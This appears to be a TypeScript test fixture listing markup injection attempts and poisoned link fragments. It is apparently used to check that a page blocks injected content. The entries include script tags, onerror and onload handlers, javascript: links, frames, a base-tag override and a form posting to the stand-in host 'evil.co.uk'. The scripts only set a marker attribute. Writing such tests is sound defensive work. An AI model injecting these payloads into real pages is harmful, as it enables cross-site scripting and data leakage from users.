/** A host that is nobody's friend. */
export const strangeHost = 'evil.co.uk';
const strange = `https://${strangeHost}`;

/** Says in the page that it ran: an attribute that nothing else writes. */
const run = (name: string): string =>
  `document.documentElement.setAttribute('data-ran-${name}','')`;

/** Markup that somebody has slipped into a page, by what it tries. */
export const attacks: Readonly<Record<string, string>> = {
  'a script': `<script>${run('script')}</script>`,
  'a script from elsewhere': `<script src="${strange}/script.js"></script>`,
  'a module from elsewhere': `<script type="module" src="${strange}/module.js"></script>`,
  'a script in its address': `<script src="data:text/javascript,${run('data')}"></script>`,
  'a picture that fails': `<img src="/none.png" alt="" onerror="${run('error')}">`,
  'a picture from elsewhere': `<img src="${strange}/picture.gif" alt="">`,
  'a drawing that loads': `<svg onload="${run('load')}"><script>${run('drawing')}</script></svg>`,
  'a frame': `<iframe src="${strange}/frame"></iframe>`,
  'a frame with a page in it': `<iframe srcdoc="<script>parent.${run('frame').replaceAll('"', '')}</script>"></iframe>`,
  'a frame that runs': `<iframe src="javascript:parent.${run('framed')}"></iframe>`,
  'an object': `<object data="${strange}/object"></object><embed src="${strange}/embed">`,
  'another base for every address': `<base href="${strange}/base/"><img src="based.png" alt="">`,
  'a form': `<form action="${strange}/form"><input name="words" value="typed"><button id="send">Go</button></form>`,
  'a style sheet': `<style>#main{position:fixed;top:-9999px}</style><link rel="stylesheet" href="${strange}/sheet.css">`,
  'a style': `<p id="covering" style="position:fixed;inset:0;background:url(${strange}/style.png)">Your number is 0000</p>`,
  'a sound': `<audio src="${strange}/sound.mp3" autoplay></audio><video poster="${strange}/poster.png"></video>`,
  'something fetched ahead': `<link rel="prefetch" href="${strange}/ahead"><link rel="preload" as="image" href="${strange}/preload.png"><link rel="icon" href="${strange}/icon.png">`,
  'a link that runs': `<a id="runs" href="javascript:${run('link')}">Go</a>`,
  'a link that tells': `<a id="tells" href="#main" ping="${strange}/ping">Go</a>`,
  'a leave control that runs': `<a id="leaves" data-exit href="javascript:${run('exit')}">Go</a>`,
  'a finder that asks elsewhere': `<service-finder data-index="${strange}/index.json"></service-finder>`,
};

/** What stands behind the "#" of a link that somebody has sent. */
export const poisonedFragments = [
  '<img src=/none.png onerror=document.documentElement.setAttribute("data-ran-fragment","")>',
  '"><script>document.documentElement.setAttribute("data-ran-fragment","")</script>',
  'javascript:document.documentElement.setAttribute("data-ran-fragment","")',
  '%E0%A4%A',
  '__proto__',
  'main:~:text=help',
];
